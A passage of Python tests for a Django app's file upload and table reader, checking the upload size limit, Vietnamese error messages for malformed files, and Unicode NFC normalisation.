        settings.THIDUA_MAX_UPLOAD_BYTES = len(data) - 1
        before = (*target.counts(), IndicatorImport.objects.count())
        response = client.post(url, {"file": SimpleUploadedFile(f"lon{extension}", data)})
        assert response.status_code == 200
        assert (*target.counts(), IndicatorImport.objects.count()) == before
        page = response.content.decode()
        assert "vượt giới hạn" in page and f"lon{extension}" in page
        # At the limit, the same file is checked as usual.
        settings.THIDUA_MAX_UPLOAD_BYTES = len(data)
        with rolled_back():
            response = client.post(url, {"file": SimpleUploadedFile(f"vua{extension}", data)})
            assert response.status_code in (200, 302)
            assert "vượt giới hạn" not in response.content.decode()


def test_every_message_of_the_reader_is_vietnamese():
    """The reader's own words, not a library's: a sample of each kind of file problem."""
    from competition.services.tables import open_table

    samples = {
        "a.xlsx": b"\x00" * 10,
        "b.csv": "Mã\nĐà Nẵng\n".encode("utf-16"),
        "c.pdf": b"%PDF-1.4",
        "d.csv": b"",
        "e.csv": b'a,"' + b"x" * 200_000,
    }
    for name, data in samples.items():
        table = open_table(io.BytesIO(data), name)
        assert table.dataset is None
        (error,) = table.errors
        assert name in str(error) and is_vietnamese(error.message), error
    decomposed = open_table(io.BytesIO(nfd("Mã,Tên\nA,Hoà\n").encode()), "f.csv")
    assert decomposed.dataset[0][1] == nfc("Hoà") and unicodedata.is_normalized("NFC", decomposed.dataset.headers[0])
